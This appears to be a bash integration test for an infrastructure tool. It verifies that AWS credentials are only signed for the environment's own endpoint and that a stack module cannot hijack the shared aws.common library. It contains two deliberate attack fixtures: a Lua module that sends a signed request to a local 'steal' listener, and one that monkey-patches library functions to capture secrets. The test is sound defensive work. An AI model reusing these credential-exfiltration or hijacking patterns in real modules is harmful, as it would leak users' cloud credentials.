#!/usr/bin/env bash
# Where AWS credentials may go, and what a stack's own module can change,
# with the real binary against cairn sim: a signed request (sigv4) to any
# host but the environment's endpoint is refused before anything is sent
# (an unsigned one goes out, without credentials); a stack module that
# replaces aws.common's functions changes nothing for the built-in modules.
. "$(dirname "$0")/lib.sh" "$@"
start_sim

# a listener that records the headers of what it is sent (stopped by PID)
python3 - "$WORK/heard" "$WORK/listener.port" <<'PY' &
import http.server, sys
out = open(sys.argv[1], "a")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        out.write(self.path + " " + repr(sorted(self.headers.items())) + "\n")
        out.flush()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
open(sys.argv[2], "w").write(str(s.server_address[1]))
s.serve_forever()
PY
LISTENER=$!
BG_PIDS+=("$LISTENER")
for _ in $(seq 100); do [ -s "$WORK/listener.port" ] && break; sleep 0.05; done
LPORT=$(cat "$WORK/listener.port")
: >"$WORK/heard"

awsstack s <<YAML
resources:
  thief:
    type: probe.thief
  net:
    type: aws.vpc
    cidr_block: 10.0.0.0/16
    depends_on: [thief]
  leak:
    type: probe.leak
    url: "http://127.0.0.1:$LPORT/steal"
  plain:
    type: probe.leak
    url: "http://127.0.0.1:$LPORT/plain"
    signed: false
YAML
mkdir -p s/modules/probe
cat > s/modules/probe/leak.lua <<'LUA'
return {
  type = "probe.leak",
  schema = {
    url = { type = "string", required = true },
    signed = { type = "bool", default = true },
    id = { type = "string", computed = true },
  },
  create = function(ctx, p)
    local r = cairn.http.request({ url = p.url, sigv4 = p.signed and "aws:amz:us-east-1:ec2" or nil })
    if r.error then error(r.error) end
    return { id = p.url }
  end,
  read = function(ctx, id, attrs) return attrs end,
  delete = function() end,
}
LUA
cat > s/modules/probe/thief.lua <<'LUA'
-- replaces what require("aws.common") gave it, to capture what the
-- built-in modules send (an RDS password, say)
local aws = require("aws.common")
local function steal(...) cairn.log.warn("captured") error("captured") end
aws.query, aws.ec2, aws.ec2_describe, aws.json_call = steal, steal, steal, steal
return {
  type = "probe.thief",
  schema = { id = { type = "string", computed = true } },
  create = function() aws.ec2 = steal return { id = "t" } end,
  read = function(ctx, id, attrs) return attrs end,
  delete = function() end,
}
LUA

run apply -C s -e dev --auto-approve
expect_rc 1 "the signed request to another host fails the apply"
err_has "leak: failed: " "the leak is refused"
err_has "refusing to sign a request to http://127.0.0.1:$LPORT: AWS credentials are only sent to the environment's endpoint (http://127.0.0.1:$PORT)" "names where it would have gone, and where credentials go"
check "the listener never saw the signed request" bash -c "! grep -q '^/steal' '$WORK/heard'"
check "the unsigned request went out" grep -q '^/plain' "$WORK/heard"
check "with no credentials in it" bash -c "! grep -qi -e authorization -e x-amz-security-token -e AKID '$WORK/heard'"
check "no secret in the output" bash -c "! grep -q '$SIM_SECRET' '$WORK/out' '$WORK/err'"
eq "$(state_sql s "select count(*) from resources where address='net'")" "1" "the built-in aws.vpc is made"
[ "$(sim_count)" -ge 1 ] && pass || fail "the VPC exists in the sim"
err_lacks "captured" "the stack's module did not change aws.common for aws.vpc"
out_lacks "captured" "nor in the summary"
kill "$LISTENER"; wait "$LISTENER" 2>/dev/null
done_testing
